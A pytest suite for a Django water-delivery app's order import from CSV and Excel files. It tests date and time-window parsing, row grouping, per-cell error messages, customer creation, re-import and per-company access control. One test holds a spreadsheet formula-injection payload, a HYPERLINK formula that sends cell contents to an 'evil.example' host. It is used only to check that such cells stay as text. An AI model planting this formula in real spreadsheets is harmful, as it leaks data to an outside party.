from __future__ import annotations

import csv
import io
from datetime import date, datetime, time, timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from apps.customers.models import Customer, CustomerPhone, CustomerStatus, ImportKind, ImportUpload
from apps.customers.services.transfer import ImportFileError, read_table
from apps.orders.models import Order, OrderChannel, PaymentIntent
from apps.orders.services import importing
from apps.orders.services.importing import (
    OrderImportFailed,
    OrderImportPlan,
    orders_import,
    orders_import_plan,
)
from apps.orders.windows import Window
from apps.org.models import Role
from tests.conftest import Team
from tests.factories import ProductFactory
from tests.orders.conftest import OrderWorld

pytestmark = pytest.mark.django_db

PHONE = "13900000001"


def tomorrow() -> date:
    return timezone.localdate() + timedelta(days=1)


def at(day: date, hour: int, minute: int = 0) -> datetime:
    return timezone.make_aware(datetime.combine(day, time(hour, minute)))


def morning() -> Window:
    return Window("tomorrow-am", "明天上午", at(tomorrow(), 8), at(tomorrow(), 12))


def with_phone(ow: OrderWorld) -> OrderWorld:
    CustomerPhone.objects.create(company=ow.company, customer=ow.customer, number=PHONE)
    return ow


def csv_bytes(rows: list[list[Any]], encoding: str) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[Any]], *, text_cells: bool = False) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if text_cells:  # what Excel stores for a cell typed as text, even "=..."
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def plan_for(ow: OrderWorld, rows: list[list[Any]]) -> OrderImportPlan:
    table = [[str(cell) for cell in row] for row in rows]
    return orders_import_plan(company=ow.company, table=table, default_window=morning())


def import_rows(ow: OrderWorld, rows: list[list[Any]]) -> Any:
    table = [[str(cell) for cell in row] for row in rows]
    return orders_import(
        company=ow.company,
        table=table,
        default_window=morning(),
        created_by=ow.team.users[Role.DISPATCHER],
    )


def day_text() -> str:
    return f"{tomorrow():%Y-%m-%d}"


# --- reading files -----------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk"])
def test_a_csv_file_in_utf8_or_gbk_puts_its_orders_in_the_pool(
    ow: OrderWorld, encoding: str
) -> None:
    with_phone(ow)
    rows = [
        ["客户编号", "电话", "商品", "数量", "配送日期", "时段", "付款方式", "备注"],
        [ow.customer.code, "", ow.water.sku, "2", day_text(), "下午", "现金", "放门口"],
        ["", PHONE, ow.water.name, "3桶", day_text(), "09:00-11:00", "", ""],
    ]
    table = read_table(content=csv_bytes(rows, encoding), filename="订单.csv")
    result = orders_import(
        company=ow.company,
        table=table,
        default_window=morning(),
        created_by=ow.team.users[Role.DISPATCHER],
    )

    first, second = Order.objects.order_by("pk")
    assert [o.pk for o in result.orders] == [first.pk, second.pk]
    assert first.channel == OrderChannel.IMPORT and first.customer == ow.customer
    assert first.address == ow.address, "no address cell: the customer's default address"
    assert (first.window_start, first.window_end) == (at(tomorrow(), 13), at(tomorrow(), 17))
    assert first.payment_intent == PaymentIntent.CASH and first.notes == "放门口"
    assert first.created_by == ow.team.users[Role.DISPATCHER]
    assert [(line.product, line.quantity) for line in first.lines.all()] == [(ow.water, 2)]
    assert (second.window_start, second.window_end) == (at(tomorrow(), 9), at(tomorrow(), 11))
    assert second.payment_intent == PaymentIntent.CREDIT, "empty payment: the billing mode's"
    assert second.lines.get().quantity == 3
    assert first.events.get().to_status == "pending"


def test_an_xlsx_file_with_date_time_and_number_cells_imports(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [
        ["电话", "商品编码", "数量", "配送日期", "开始时间", "结束时间"],
        [int(PHONE), ow.water.sku, 2, datetime.combine(tomorrow(), time()), time(15), time(17)],
    ]
    table = read_table(content=xlsx_bytes(rows), filename="订单.xlsx")
    plan = orders_import_plan(company=ow.company, table=table, default_window=morning())
    assert plan.ok, plan.errors
    order = plan.orders[0]
    assert order.customer == ow.customer and order.units == 2
    assert (order.window_start, order.window_end) == (at(tomorrow(), 15), at(tomorrow(), 17))


def test_english_and_variant_headers_are_understood(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [
        [
            "Phone",
            "SKU",
            "Qty",
            "Delivery Date",
            "Window start",
            "Payment method",
            "Remarks",
            "团长",
        ],
        [PHONE, ow.water.sku.lower(), "1", day_text(), "10:30", "WeChat", "call first", "老王"],
    ]
    plan = plan_for(ow, rows)
    assert plan.ok, plan.errors
    assert plan.ignored_columns == ["团长"]
    order = plan.orders[0]
    assert (order.window_start, order.window_end) == (
        at(tomorrow(), 10, 30),
        at(tomorrow(), 12, 30),
    )
    assert order.payment == PaymentIntent.SCAN and order.notes == ["call first"]


@pytest.mark.parametrize(
    ("text", "hours"),
    [
        ("上午", ((8, 0), (12, 0))),
        ("晚上", ((17, 0), (20, 0))),
        ("全天", ((8, 0), (20, 0))),
        ("9:00-11:00", ((9, 0), (11, 0))),
        ("09：00～11：30", ((9, 0), (11, 30))),
        ("9点-11点半", ((9, 0), (11, 30))),
        ("下午2-4点", ((14, 0), (16, 0))),
        ("2pm to 4pm", ((14, 0), (16, 0))),
        ("0900-1100", ((9, 0), (11, 0))),
        ("10点前", ((8, 0), (10, 0))),
        ("15:00", ((15, 0), (17, 0))),
        ("afternoon", ((13, 0), (17, 0))),
    ],
)
def test_windows_are_read_generously(ow: OrderWorld, text: str, hours: Any) -> None:
    with_phone(ow)
    plan = plan_for(
        ow,
        [["电话", "商品", "数量", "配送日期", "时段"], [PHONE, ow.water.sku, 1, day_text(), text]],
    )
    assert plan.ok, plan.errors
    order = plan.orders[0]
    assert (order.window_start, order.window_end) == (
        at(tomorrow(), *hours[0]),
        at(tomorrow(), *hours[1]),
    )


@pytest.mark.parametrize(
    "text",
    [
        lambda d: f"{d:%Y/%m/%d}",
        lambda d: f"{d.year}年{d.month}月{d.day}日",
        lambda d: f"{d.month}月{d.day}日",
        lambda d: f"{d:%Y%m%d}",
        lambda d: f"{d:%Y-%m-%d} 00:00:00",
        lambda d: str((d - date(1899, 12, 30)).days),  # an Excel serial number
        lambda d: "明天",
    ],
)
def test_dates_are_read_generously(ow: OrderWorld, text: Any) -> None:
    with_phone(ow)
    plan = plan_for(
        ow, [["电话", "商品", "数量", "日期"], [PHONE, ow.water.sku, 1, text(tomorrow())]]
    )
    assert plan.ok, plan.errors
    assert plan.orders[0].window_start == at(tomorrow(), 8), "the default window's hours"


def test_empty_date_and_window_cells_take_the_default_window(ow: OrderWorld) -> None:
    with_phone(ow)
    later = tomorrow() + timedelta(days=1)
    plan = plan_for(
        ow,
        [
            ["电话", "商品", "数量", "配送日期", "时段"],
            [PHONE, ow.water.sku, 1, "", ""],
            [PHONE, ow.water.sku, 1, f"{later:%Y-%m-%d}", ""],
            [PHONE, ow.water.sku, 1, "", "晚上"],
        ],
    )
    assert plan.ok, plan.errors
    assert [(o.window_start, o.window_end) for o in plan.orders] == [
        (at(tomorrow(), 8), at(tomorrow(), 12)),
        (at(later, 8), at(later, 12)),
        (at(tomorrow(), 17), at(tomorrow(), 20)),
    ]


# --- grouping ----------------------------------------------------------------------


def test_rows_with_one_external_number_are_one_order_and_other_rows_their_own(
    ow: OrderWorld,
) -> None:
    with_phone(ow)
    ProductFactory(company=ow.company, sku="M1", name="鲜牛奶", price_fen=500)
    rows = [
        ["外部单号", "电话", "商品", "数量", "时段", "备注"],
        ["TG-1", PHONE, ow.water.sku, "2", "下午", "团购"],
        ["TG-1", "", "鲜牛奶", "4", "", "要冰的"],  # merged cells leave the customer empty
        ["", PHONE, ow.water.sku, "1", "", ""],
        ["", PHONE, "M1", "1", "", ""],
    ]
    plan = plan_for(ow, rows)
    assert plan.ok, plan.errors
    assert plan.order_count == 3 and plan.units == 8
    assert [row.order_number for row in plan.rows] == [1, 1, 2, 3]
    result = import_rows(ow, rows)
    grouped = result.orders[0]
    assert grouped.external_id == "TG-1" and grouped.notes == "团购；要冰的"
    assert sorted((line.product.sku, line.quantity) for line in grouped.lines.all()) == [
        ("M1", 4),
        (ow.water.sku, 2),
    ]
    assert [o.external_id for o in result.orders[1:]] == ["", ""]
    assert Order.objects.count() == 3


def test_the_lines_of_one_order_must_agree_on_customer_window_and_payment(ow: OrderWorld) -> None:
    with_phone(ow)
    other = ProductFactory(company=ow.company, sku="M1", name="鲜牛奶")
    third = ProductFactory(company=ow.company, sku="M2", name="酸奶")
    rows = [
        ["外部单号", "电话", "姓名", "地址", "商品", "数量", "时段", "付款方式"],
        ["TG-1", PHONE, "", "", ow.water.sku, "1", "上午", "现金"],
        ["TG-1", "", "", "", other.sku, "1", "下午", "月结"],
        ["TG-1", "13800000009", "新客", "文一路 1 号", third.sku, "1", "", ""],
        ["TG-1", "", "", "", ow.water.sku, "1", "", ""],
    ]
    with translation.override("zh-hans"):
        plan = plan_for(ow, rows)
    messages = {(e.row, e.column): e.message for e in plan.errors}
    assert messages == {
        (3, "时段"): "与同一订单的第 2 行不一致。",
        (3, "付款方式"): "与同一订单的第 2 行不一致。",
        (4, "外部单号"): "订单号 TG-1 已在第 2 行用于另一位客户。",
        (5, "商品"): f"{ow.water.name} 已在本订单第 2 行。",
    }


# --- errors and all-or-nothing -----------------------------------------------------


def test_each_bad_row_names_its_row_and_column_and_nothing_is_created(ow: OrderWorld) -> None:
    with_phone(ow)
    ProductFactory(company=ow.company, sku="OLD", name="旧水", is_active=False)
    rows = [
        [
            "外部单号",
            "客户编号",
            "电话",
            "姓名",
            "地址",
            "商品",
            "数量",
            "配送日期",
            "时段",
            "付款方式",
        ],
        ["", "", PHONE, "", "", ow.water.sku, "2", day_text(), "上午", "现金"],
        ["", "C99999", "", "", "", ow.water.sku, "1", "", "", ""],
        ["", "", "12345", "", "", "没有的水", "0", "明年", "半夜", "比特币"],
        ["", "", "13800000002", "", "", "OLD", "两桶", "", "", ""],
        ["", "", "13800000003", "王五", "", ow.water.sku, "1", "", "", ""],
        [
            "",
            "",
            PHONE,
            "",
            "",
            ow.water.sku,
            "1",
            f"{timezone.localdate() - timedelta(days=1):%Y-%m-%d}",
            "",
            "",
        ],
    ]
    customers = Customer.objects.count()
    with translation.override("zh-hans"):
        plan = plan_for(ow, rows)
        with pytest.raises(OrderImportFailed) as failed:
            import_rows(ow, rows)
    messages = {(e.row, e.column): e.message for e in plan.errors}
    assert messages == {
        (3, "客户编号"): "没有编号为 C99999 的客户。",
        (4, "电话"): "“12345”不是有效的电话号码：请填写手机号，或带区号的座机号。",
        (4, "商品"): "没有 SKU 或名称为“没有的水”的商品。",
        (4, "数量"): "数量须在 1 到 9999 之间。",
        (4, "配送日期"): f"“明年”不是日期，请写成 {tomorrow():%Y-%m-%d} 这样。",
        (4, "时段"): "“半夜”不是配送时段，请写成 上午、下午、晚上 或 09:00-11:00 这样。",
        (4, "付款方式"): "“比特币”不是付款方式，请用 现金、扫码、钱包、水票、月结、已付。",
        (5, "电话"): "没有电话为 13800000002 的客户；要新建客户，请填写 姓名 和 地址。",
        (5, "商品"): "农夫山泉 旧水 已停售。",
        (5, "数量"): "“两桶”不是整数。",
        (6, "地址"): "请填写新客户的地址。",
        (7, "配送日期"): "配送时段已经过去。",
    }
    assert plan.error_rows == 5 and plan.order_count == 1
    assert [row.status for row in plan.rows] == ["ok", *["error"] * 5]
    assert failed.value.plan.error_rows == 5
    assert not Order.objects.exists(), "one bad row: not a single order"
    assert Customer.objects.count() == customers


def test_a_file_without_the_needed_columns_or_with_too_many_rows_is_refused_whole(
    ow: OrderWorld,
) -> None:
    with translation.override("zh-hans"):
        with pytest.raises(ImportFileError) as raised:
            plan_for(ow, [["姓名", "货物", "件"], ["张三", ow.water.sku, "1"]])
        assert raised.value.messages == ["第一行必须是列名；缺少：客户编号/电话、商品、数量。"]
        too_many = [["电话", "商品", "数量"], *[[PHONE, ow.water.sku, "1"]] * 1001]
        with pytest.raises(ImportFileError, match="1000"):
            plan_for(ow, too_many)


def test_conflicting_day_and_time_cells_are_errors_not_guesses(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [
        ["电话", "姓名", "商品", "数量", "配送日期", "时段", "开始时间", "结束时间"],
        [PHONE, "", ow.water.sku, "1", day_text(), "明天上午", "", ""],
        [PHONE, "", ow.water.sku, "1", "", "上午", "09:00", ""],
        [PHONE, "", ow.water.sku, "1", "", "", "下班后", ""],
        [PHONE, "", ow.water.sku, "1", "", "", "16:00", "10:00"],
        [PHONE, "", ow.water.sku, "1", f"{tomorrow() + timedelta(days=120):%Y-%m-%d}", "", "", ""],
    ]
    with translation.override("zh-hans"):
        plan = plan_for(ow, rows)
    assert {(e.row, e.column): e.message for e in plan.errors} == {
        (2, "时段"): "日期请写在配送日期列或时段列中的一处，不要两处都写。",
        (3, "时段"): "请填写时段，或者填写开始时间和结束时间，不要两者都填。",
        (4, "开始时间"): "“下班后”不是时间，请写成 09:00 这样。",
        (5, "开始时间"): "配送时段的结束时间必须晚于开始时间。",
        (6, "配送日期"): "配送日期超过了 90 天之后。",
    }


def test_a_blocked_customer_or_a_new_customer_told_twice_differently_is_an_error(
    ow: OrderWorld,
) -> None:
    with_phone(ow)
    Customer.objects.filter(pk=ow.customer.pk).update(
        status=CustomerStatus.BLOCKED, blocked_reason="欠款未结"
    )
    rows = [
        ["电话", "姓名", "地址", "商品", "数量"],
        [PHONE, "", "", ow.water.sku, "1"],
        ["13800000021", "赵六", "文一路 1 号", ow.water.sku, "1"],
        ["13800000021", "赵七", "文一路 2 号", ow.water.sku, "1"],
    ]
    with translation.override("zh-hans"):
        plan = plan_for(ow, rows)
    assert {(e.row, e.column): e.message for e in plan.errors} == {
        (2, "电话"): "张三 已被停用：欠款未结",
        (4, "姓名"): "与第 3 行不一致，那一行新建的是同一位客户。",
        (4, "地址"): "与第 3 行不一致，那一行新建的是同一位客户。",
    }


def test_a_failure_while_writing_leaves_no_order_and_no_new_customer(
    ow: OrderWorld, monkeypatch: Any
) -> None:
    with_phone(ow)
    rows = [
        ["电话", "姓名", "地址", "商品", "数量"],
        ["13800000005", "新客户", "文一路 5 号", ow.water.sku, "1"],
        [PHONE, "", "", ow.water.sku, "1"],
    ]
    real_create = importing.order_create
    calls = []

    def blocked_on_the_second(**kwargs: Any) -> Order:
        calls.append(kwargs["customer"])
        if len(calls) == 2:
            Customer.objects.filter(pk=ow.customer.pk).update(
                status=CustomerStatus.BLOCKED, blocked_reason="欠款"
            )
            kwargs["customer"].refresh_from_db()
        return real_create(**kwargs)

    monkeypatch.setattr(importing, "order_create", blocked_on_the_second)
    with translation.override("zh-hans"), pytest.raises(OrderImportFailed) as failed:
        import_rows(ow, rows)
    assert failed.value.plan.errors[-1].row == 3
    assert "欠款" in failed.value.plan.errors[-1].message
    assert not Order.objects.exists()
    assert not Customer.objects.filter(name="新客户").exists()


def test_importing_the_same_file_again_creates_nothing_new(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [
        ["外部单号", "电话", "商品", "数量"],
        ["TG-1", PHONE, ow.water.sku, "1"],
        ["TG-2", PHONE, ow.water.sku, "2"],
    ]
    first = import_rows(ow, rows)
    assert len(first.orders) == 2

    plan = plan_for(ow, rows)
    assert plan.ok and plan.order_count == 0 and plan.imported_before == 2
    assert [(row.status, row.existing) for row in plan.rows] == [
        ("imported", first.orders[0]),
        ("imported", first.orders[1]),
    ]
    again = import_rows(ow, [*rows, ["TG-3", PHONE, ow.water.sku, "3"]])
    assert [o.external_id for o in again.orders] == ["TG-3"]
    assert Order.objects.count() == 3


def test_an_order_taken_by_another_import_meanwhile_is_not_created_twice(
    ow: OrderWorld, monkeypatch: Any
) -> None:
    with_phone(ow)
    rows = [["外部单号", "电话", "商品", "数量"], ["TG-1", PHONE, ow.water.sku, "1"]]
    real_plan = importing.orders_import_plan

    def plan_then_someone_imports(**kwargs: Any) -> OrderImportPlan:
        plan = real_plan(**kwargs)
        ow.order(channel=OrderChannel.IMPORT, external_id="TG-1")
        return plan

    monkeypatch.setattr(importing, "orders_import_plan", plan_then_someone_imports)
    result = import_rows(ow, rows)
    assert result.orders == [] and result.already_imported == 1
    assert Order.objects.count() == 1


# --- customers ---------------------------------------------------------------------


def test_an_unknown_phone_with_name_and_address_adds_the_customer_once(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [
        ["电话", "姓名", "地址", "楼层", "电梯", "商品", "数量"],
        ["138-0000-0007", "李四", "文二路 5 号", "6", "无", ow.water.sku, "1"],
        ["13800000007", "李四", "", "", "", ow.water.sku, "2"],
        [PHONE, "", "公司：学院路 1 号", "", "", ow.water.sku, "1"],
    ]
    plan = plan_for(ow, rows)
    assert plan.ok, plan.errors
    assert plan.new_customer_count == 1 and len(plan.new_addresses) == 1
    result = import_rows(ow, rows)
    assert result.new_customers == 1
    customer = Customer.objects.get(name="李四")
    assert customer.source == "import" and customer.company == ow.company
    assert list(customer.phones.values_list("number", flat=True)) == ["13800000007"]
    address = customer.addresses.get()
    assert (address.street, address.floor, address.has_elevator) == ("文二路 5 号", 6, False)
    first, second, third = result.orders
    assert first.customer == second.customer == customer and first.address == address
    assert third.customer == ow.customer and third.address.street == "公司：学院路 1 号"
    assert ow.customer.addresses.count() == 2
    assert ow.customer.addresses.get(is_default=True) == ow.address
    assert first.deposit_fen == 3000, "a new customer's first bucket carries the deposit"


def test_a_known_address_is_picked_not_added(ow: OrderWorld) -> None:
    with_phone(ow)
    rows = [["电话", "地址", "商品", "数量"], [PHONE, "文三路100号", ow.water.sku, "1"]]
    result = import_rows(ow, rows)
    assert result.orders[0].address == ow.address
    assert ow.customer.addresses.count() == 1


def test_a_formula_looking_cell_is_kept_as_text(ow: OrderWorld) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    rows = [
        ["电话", "姓名", "地址", "商品", "数量", "备注"],
        ["13800000008", formula, "=1+1", ow.water.sku, "1", formula],
    ]
    for content, name in (
        (csv_bytes(rows, "utf-8"), "a.csv"),
        (xlsx_bytes(rows, text_cells=True), "a.xlsx"),
    ):
        table = read_table(content=content, filename=name)
        plan = orders_import_plan(company=ow.company, table=table, default_window=morning())
        assert plan.ok, plan.errors
        assert plan.new_customers[0].name == formula and plan.orders[0].notes == [formula]
    result = import_rows(ow, rows)
    order = result.orders[0]
    assert order.customer.name == formula and order.notes == formula
    assert order.address.street == "=1+1"


# --- pages -------------------------------------------------------------------------


def upload_file(client: Client, name: str, content: bytes, window: str = "tomorrow-am") -> Any:
    return client.post(
        reverse("orders:import_upload"),
        {"file": SimpleUploadedFile(name, content), "window": window},
    )


def test_upload_preview_and_confirm_through_the_pages(ow: OrderWorld) -> None:
    with_phone(ow)
    client = ow.team.client_for(Role.DISPATCHER)
    page = client.get(reverse("orders:import_upload")).content.decode()
    assert "外部单号" in page and reverse("orders:import_template") in page

    bad = [["电话", "商品", "数量"], [PHONE, ow.water.sku, "2"], [PHONE, "没有的水", "1"]]
    response = upload_file(client, "订单.csv", csv_bytes(bad, "gbk"))
    upload = ImportUpload.objects.get()
    assert upload.kind == ImportKind.ORDERS
    assert response["Location"] == (
        reverse("orders:import_preview", kwargs={"pk": upload.pk}) + "?window=tomorrow-am"
    )
    page = client.get(response["Location"]).content.decode()
    assert "没有 SKU 或名称为“没有的水”的商品。" in page
    assert 'data-count="errors">1<' in page and 'data-row="3"' in page
    assert "confirm-import" not in page
    assert client.post(response["Location"], {"window": "tomorrow-am"}).status_code == 200
    assert not Order.objects.exists()

    good = [
        ["电话", "商品", "数量", "时段"],
        [PHONE, ow.water.sku, "2", ""],
        [PHONE, ow.water.sku, "1", "下午"],
    ]
    response = upload_file(client, "订单.xlsx", xlsx_bytes(good), window="tomorrow-eve")
    upload = ImportUpload.objects.latest("id")
    page = client.get(response["Location"]).content.decode()
    assert 'data-count="orders">2<' in page and 'data-count="units">3<' in page
    assert "confirm-import" in page and 'value="tomorrow-eve"' in page
    url = reverse("orders:import_preview", kwargs={"pk": upload.pk})
    done = client.post(url, {"window": "tomorrow-eve"})
    assert done.status_code == 302 and done["Location"] == url
    assert "导入" in client.get(url).content.decode()
    assert client.post(url, {"window": "tomorrow-eve"}).status_code == 200, (
        "a second confirm imports nothing"
    )
    orders = list(Order.objects.order_by("pk"))
    assert [o.window_start for o in orders] == [at(tomorrow(), 17), at(tomorrow(), 13)]
    assert {o.created_by for o in orders} == {ow.team.users[Role.DISPATCHER]}
    upload.refresh_from_db()
    assert upload.imported_at is not None and upload.created_count == 2


def test_the_very_same_file_without_external_numbers_is_refused_the_second_time(
    ow: OrderWorld,
) -> None:
    with_phone(ow)
    client = ow.team.client_for(Role.DISPATCHER)
    content = csv_bytes([["电话", "商品", "数量"], [PHONE, ow.water.sku, "2"]], "utf-8")
    first = upload_file(client, "a.csv", content)
    client.post(first["Location"], {"window": "tomorrow-am"})
    assert Order.objects.count() == 1

    second = upload_file(client, "a.csv", content)
    with translation.override("zh-hans"):
        page = client.get(second["Location"]).content.decode()
    assert "这个文件已在" in page and "confirm-import" not in page
    client.post(second["Location"], {"window": "tomorrow-am"})
    assert Order.objects.count() == 1


def test_the_preview_explains_already_imported_rows(ow: OrderWorld) -> None:
    with_phone(ow)
    order = ow.order(channel=OrderChannel.IMPORT, external_id="TG-9")
    client = ow.team.client_for(Role.OWNER)
    content = csv_bytes(
        [["外部单号", "电话", "商品", "数量"], ["TG-9", PHONE, ow.water.sku, "1"]], "utf-8"
    )
    page = client.get(upload_file(client, "a.csv", content)["Location"]).content.decode()
    assert f"已导入为 {order.number}" in page
    assert "没有新的订单要导入" in page and "confirm-import" not in page


def test_another_companys_or_another_persons_upload_is_a_404(
    ow: OrderWorld, other_team: Team
) -> None:
    with_phone(ow)
    client = ow.team.client_for(Role.DISPATCHER)
    content = csv_bytes([["电话", "商品", "数量"], [PHONE, ow.water.sku, "2"]], "utf-8")
    upload_file(client, "a.csv", content)
    url = reverse("orders:import_preview", kwargs={"pk": ImportUpload.objects.get().pk})
    for intruder in (other_team.client_for(Role.DISPATCHER), other_team.client_for(Role.OWNER)):
        assert intruder.get(url).status_code == 404
        assert intruder.post(url, {"window": "tomorrow-am"}).status_code == 404
    assert ow.team.client_for(Role.OWNER).post(url, {"window": "tomorrow-am"}).status_code == 404
    assert not Order.objects.exists()


def test_customer_and_order_uploads_stay_with_their_own_importer(ow: OrderWorld) -> None:
    with_phone(ow)
    client = ow.team.client_for(Role.DISPATCHER)
    content = csv_bytes(
        [["姓名", "电话", "商品", "数量"], ["新人", "13800000011", ow.water.sku, "1"]], "utf-8"
    )
    upload_file(client, "a.csv", content)
    orders_upload = ImportUpload.objects.get()
    assert (
        client.post(
            reverse("customers:import_preview", kwargs={"pk": orders_upload.pk})
        ).status_code
        == 404
    )
    client.post(reverse("customers:import_upload"), {"file": SimpleUploadedFile("c.csv", content)})
    customers_upload = ImportUpload.objects.exclude(pk=orders_upload.pk).get()
    assert customers_upload.kind == ImportKind.CUSTOMERS
    url = reverse("orders:import_preview", kwargs={"pk": customers_upload.pk})
    assert client.post(url, {"window": "tomorrow-am"}).status_code == 404
    assert not Order.objects.exists() and not Customer.objects.filter(name="新人").exists()


@pytest.mark.parametrize(("role", "status"), [(Role.COURIER, 403), (Role.ACCOUNTANT, 403)])
def test_only_owners_and_dispatchers_import_orders(ow: OrderWorld, role: str, status: int) -> None:
    client = ow.team.client_for(role)
    content = csv_bytes([["电话", "商品", "数量"], [PHONE, ow.water.sku, "2"]], "utf-8")
    assert upload_file(client, "a.csv", content).status_code == status
    assert client.get(reverse("orders:import_template")).status_code == status
    assert not ImportUpload.objects.exists()


def test_the_template_downloads_in_both_formats_and_imports_cleanly(ow: OrderWorld) -> None:
    client = ow.team.client_for(Role.OWNER)
    xlsx = client.get(reverse("orders:import_template"), {"type": "xlsx"})
    assert "attachment" in xlsx["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header[:4] == ["外部单号", "客户编号", "电话", "姓名"] and "商品" in header
    csv_response = client.get(reverse("orders:import_template"), {"type": "csv"})
    assert csv_response.content.startswith(b"\xef\xbb\xbf")
    for content, name in ((xlsx.content, "t.xlsx"), (csv_response.content, "t.csv")):
        table = read_table(content=content, filename=name)
        assert table[0] == header
        plan = orders_import_plan(company=ow.company, table=table, default_window=morning())
        assert plan.ok, plan.errors
        assert plan.order_count == 1 and plan.new_customer_count == 1
        assert plan.orders[0].lines[0].product == ow.water
